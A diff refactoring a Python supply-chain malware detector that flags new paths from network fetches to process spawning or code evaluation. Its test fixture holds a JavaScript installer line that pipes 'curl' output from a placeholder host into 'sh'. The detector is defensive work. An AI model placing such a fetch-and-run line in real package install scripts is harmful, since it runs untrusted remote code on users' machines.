@@ -20,20 +20,10 @@ its own); code run by the interpreter's own remote imports.
 
 from collections.abc import Iterator
 
+from lazaretto.core.destination import destination, pipes_download
 from lazaretto.core.facts import Kind, Reach
 from lazaretto.core.finding import Card, Example, Finding
-from lazaretto.core.question import (
-    AUTORUN,
-    Chain,
-    Tally,
-    decoded,
-    destination,
-    hidden,
-    new_chains,
-    package_json,
-    pipes_download,
-    runs_by_itself,
-)
+from lazaretto.core.question import AUTORUN, Chain, Tally, decoded, hidden, new_chains, package_json, runs_by_itself
 from lazaretto.core.update import Pair, Placed, Update
 
 CARD = Card(
@@ -56,10 +46,7 @@ _SOURCES = (Kind.NET_CONNECT, Kind.RUNTIME_FETCH)
 _SINKS = (Kind.PROCESS_SPAWN, Kind.CODE_EVAL)
 
 _BEFORE = {"package.json": package_json("1.0.0"), "index.js": "module.exports = (a) => a;\n"}
-_INSTALLER = (
-    "const { execSync } = require('child_process');\n"
-    "execSync('curl -s https://files.invalid/pad | sh');\n"
-)
+_INSTALLER = "const { execSync } = require('child_process');\nexecSync('curl -s https://files.invalid/pad | sh');\n"
 
 EXAMPLES = (
     Example(
@@ -117,7 +104,7 @@ def detect(update: Update) -> Iterator[Finding]:
     tally = Tally(CARD)
     for pair in update.pairs:
         for chain, new_kind in new_chains(pair, _SOURCES, _SINKS):
-            variant = _variant(pair, chain, new_kind)
+            variant = _variant(pair, chain, new_kind=new_kind)
             if variant:
                 tally.add(variant, pair, chain.source, chain.sink)
                 tally.explain(variant, decoded(pair, chain.sink.path))
@@ -126,7 +113,7 @@ def detect(update: Update) -> Iterator[Finding]:
     yield from tally.findings(_MESSAGES)
 
 
-def _variant(pair: Pair, chain: Chain, new_kind: bool) -> str | None:
+def _variant(pair: Pair, chain: Chain, *, new_kind: bool) -> str | None:
     autorun = chain.reach in AUTORUN
     suspicious = chain.data and bool(hidden(chain.source.fact) or destination(chain.source.fact.value))
     if pair.before is None:
